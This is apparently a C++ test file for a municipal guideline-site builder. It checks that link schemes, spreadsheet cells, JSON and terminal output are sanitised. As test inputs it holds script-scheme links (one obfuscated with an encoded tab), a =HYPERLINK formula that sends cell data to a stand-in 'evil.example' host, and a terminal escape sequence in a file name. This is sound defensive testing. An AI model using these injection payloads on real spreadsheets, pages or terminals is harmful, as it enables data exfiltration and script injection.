// End-to-end: what a hostile or careless field cannot do to the output
// (issue 19): a link with a script scheme, a formula in a spreadsheet cell,
// a control character in XML or a terminal, invalid UTF-8 in JSON.
#include <catch2/catch.hpp>

#include "support/protected_site.h"

using namespace styrdok::test;

namespace {

std::string with_website(const std::string& website) {
  std::string yaml = site_yaml();
  const std::string name = "    name: Lysekils kommun\n";
  yaml.insert(yaml.find(name) + name.size(), "    website: " + website + "\n");
  return yaml;
}

}  // namespace

TEST_CASE("a javascript: organisation website fails the build at its place") {
  GuidelinesSite site;
  const auto r = site.fails_with("site.yaml", with_website("javascript:alert(4)"));
  CHECK_THAT(r.output, Catch::Contains("site.yaml:6:14: the address 'javascript:alert(4)' has the scheme "
                                       "'javascript:', which is not allowed in a link"));
}

TEST_CASE("a Markdown link with a script scheme is published as text, with a warning") {
  GuidelinesSite site;
  write_text(site.dir / kGuidelinesPath,
             version_md(kGuidelinesFront, "## Syfte\n\nLäs [mer](JAVA&#9;SCRIPT:alert(4)).\n"));
  const auto r = run_styrdok("build --as-of 2025-01-01 --source " + site.dir.path().string());  // warnings shown
  INFO(r.output);
  REQUIRE(r.exit_code == 0);
  CHECK_THAT(r.output, Catch::Contains(kGuidelinesPath + ":11:5: warning: the address 'JAVA\\x09SCRIPT:alert(4)'"));
  const std::string page = read_text(site.dir / "public/lysekil/riktlinjer/2021-05-19/index.html");
  CHECK(page.find("Läs mer.") != std::string::npos);
  CHECK(page.find("SCRIPT:") == std::string::npos);
}

TEST_CASE("a formula in a title reaches documents.csv neutralised, and documents.json as it was written") {
  GuidelinesSite site;
  std::string front = kGuidelinesFront;
  front.replace(0, front.find('\n'), "title: \"=HYPERLINK(\\\"https://evil.example/?\\\"&A1,\\\"Klicka\\\")\"");
  write_text(site.dir / kGuidelinesPath, version_md(front));
  const auto r = site.build();
  INFO(r.output);
  REQUIRE(r.exit_code == 0);
  const std::string csv = read_text(site.dir / "public/documents.csv");
  CHECK(csv.find(",\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Klicka\"\")\",") != std::string::npos);
  CHECK(csv.find(",=") == std::string::npos);
  CHECK(csv.find(",\"=") == std::string::npos);
  const std::string json = read_text(site.dir / "public/documents.json");
  CHECK(json.find("\"=HYPERLINK(\\\"https://evil.example/?\\\"\\u0026A1,\\\"Klicka\\\")\"") != std::string::npos);
}

TEST_CASE("a folder name that is not UTF-8 never reaches JSON or the terminal as a raw byte") {
  GuidelinesSite site;
  write_text(site.dir / "content/lysekil/mapp\xFF\x1b[2J/2021-05-19.md", version_md(kGuidelinesFront));
  const auto r = run_styrdok("check --format json --as-of 2025-01-01 --source " + site.dir.path().string());
  INFO(r.output);
  CHECK(r.exit_code == 0);
  CHECK(r.output.find("\"path\": \"content/lysekil/mapp\xEF\xBF\xBD\\u001b[2J/2021-05-19.md\"") != std::string::npos);
  CHECK(r.output.find('\xFF') == std::string::npos);
  CHECK(r.output.find('\x1b') == std::string::npos);
  const auto text = run_styrdok("check --as-of 2025-01-01 --source " + site.dir.path().string());
  INFO(text.output);
  CHECK(text.exit_code == 0);
  CHECK(text.output.find("content/lysekil/mapp\\xFF\\x1B[2J/2021-05-19.md: warning:") != std::string::npos);
  CHECK(text.output.find('\x1b') == std::string::npos);
  REQUIRE(site.build().exit_code == 0);
  const std::string json = read_text(site.dir / "public/documents.json");
  CHECK(json.find("mapp\xEF\xBF\xBD") != std::string::npos);
  CHECK(json.find('\xFF') == std::string::npos);
}

TEST_CASE("an indicator CSV that is a folder is an error, not a chart without measurements") {
  GuidelinesSite site;
  const auto r = site.fails_after([&] {
    write_text(site.dir / "content/lysekil/riktlinjer/indikatorer/sfi.yaml",
               "name: Andel i SFI\nunit: procent\ngoal: syfte\nbaseline: {year: 2012, value: 55}\n"
               "target: {year: 2016, value: 80}\n");
    std::filesystem::create_directories(site.dir / "content/lysekil/riktlinjer/indikatorer/sfi.csv");
  });
  CHECK_THAT(r.output, Catch::Contains("content/lysekil/riktlinjer/indikatorer/sfi.csv: this is a folder, not a file"));
}
